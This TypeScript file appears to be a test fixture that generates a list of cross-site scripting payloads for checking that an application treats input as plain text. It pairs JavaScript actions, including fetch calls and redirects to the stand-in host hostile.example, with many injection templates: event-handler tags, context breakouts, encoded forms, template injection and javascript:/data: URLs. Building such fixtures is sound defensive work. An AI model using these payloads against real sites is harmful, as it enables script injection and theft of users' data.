/** What each string attempts: run code, alert, make requests, leave the page, open a window, write into it. */
const DEEDS = [
  'globalThis.hostile=1',
  'alert(1)',
  "fetch('https://hostile.example/fetch')",
  "location='https://hostile.example/location'",
  "open('https://hostile.example/open')",
  "document.body.innerHTML='<img src=https://hostile.example/write>'",
] as const;

const escaped = (deed: string): string => deed.replaceAll("'", '&#39;');
const encoded = (deed: string): string => encodeURIComponent(deed);
const inBase64 = (deed: string): string => Buffer.from(`<script>${deed}</script>`).toString('base64');

/** Known ways for text to become markup, script, style or a URL. */
const WAYS: readonly ((deed: string) => string)[] = [
  // elements
  (deed) => `<script>${deed}</script>`,
  (deed) => `<ScRiPt >${deed}</ScRiPt >`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) =>
    `<img src="https://hostile.example/pixel.png" srcset="https://hostile.example/pixel2.png 2x" onload="${deed}">`,
  (deed) => `<svg onload="${deed}"></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s></svg>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) =>
    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${escaped(deed)}>">`,
  (deed) => `<iframe srcdoc="<script>${escaped(deed)}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<object data="data:text/html;base64,${inBase64(deed)}"></object>`,
  (deed) => `<embed src="data:text/html;base64,${inBase64(deed)}">`,
  (deed) => `<video><source onerror="${deed}"></video><audio src="https://hostile.example/a.mp3" autoplay>`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<body onload="${deed}" onpageshow="${deed}">`,
  (deed) => `<marquee onstart="${deed}">`,
  (deed) => `<form action="javascript:${deed}"><button autofocus onfocus="this.form.submit()">`,
  (deed) => `<a href="javascript:${deed}" ping="https://hostile.example/ping">press</a>`,
  (deed) => `<meta http-equiv="refresh" content="0;url=https://hostile.example/meta?${encoded(deed)}">`,
  (deed) => `<base href="https://hostile.example/"><script src="${encoded(deed)}.js"></script>`,
  (deed) =>
    `<link rel="stylesheet" href="https://hostile.example/style.css?${encoded(deed)}"><link rel="preconnect" href="https://hostile.example/">`,
  (deed) =>
    `<style>@import "https://hostile.example/import.css?${encoded(deed)}"; *{background:url(https://hostile.example/background.png)}</style>`,
  (deed) => `<div style="background:url('https://hostile.example/inline.png');animation:x" onanimationstart="${deed}">`,
  (deed) => `<template><script>${deed}</script></template><slot name="${deed}">`,
  // breaking out of their context
  (deed) => `"><script>${deed}</script>`,
  (deed) => `'><img src=x onerror=${deed}>`,
  (deed) => `" onmouseover="${deed}" autofocus onfocus="${deed}" x="`,
  (deed) => `--><script>${deed}</script><!--`,
  (deed) => `</textarea></title></style></noscript></script><script>${deed}</script>`,
  (deed) => `]]><script>${deed}</script>`,
  (deed) => `"}</script><script>${deed}</script>{"a":"`,
  (deed) => `');${deed};//`,
  (deed) => `\u2028${deed}\u2029\`\${${deed}}\``,
  // encoded, so that double decoding makes them markup
  (deed) => `&lt;script&gt;${escaped(deed)}&lt;/script&gt;`,
  (deed) => `%3Cscript%3E${encoded(deed)}%3C%2Fscript%3E`,
  (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  (deed) => `+ADw-script+AD4-${deed}+ADw-/script+AD4-`,
  (deed) => `\u202E>tpircs/<${deed}\u202C\u2066<script>${deed}</script>\u2069`,
  // templates and markdown
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `<%= ${deed} %> #{${deed}} \${${deed}}`,
  (deed) => `[press](javascript:${deed}) [data](data:text/html;base64,${inBase64(deed)})`,
  (deed) => `![picture](https://hostile.example/markdown.png?${encoded(deed)}) <https://hostile.example/auto>`,
  // URLs
  (deed) => `javascript:${deed}`,
  (deed) => `java\tscript:${deed}`,
  (deed) => `data:text/html;base64,${inBase64(deed)}`,
  (deed) => `https://hostile.example/%22onerror=%22${encoded(deed)}"onerror="${deed}`,
  (deed) => `file:///etc/passwd#${deed}`,
  (deed) => `app://counterbell/index.html#/settings?${deed}`,
  (deed) => `counterbell://chat/1?${deed} //hostile.example/${encoded(deed)}.png`,
];

/** 300 strings, each of which would have an effect somewhere if it were treated as anything but text. */
export const hostileStrings: readonly string[] = WAYS.flatMap((way) => DEEDS.map(way));
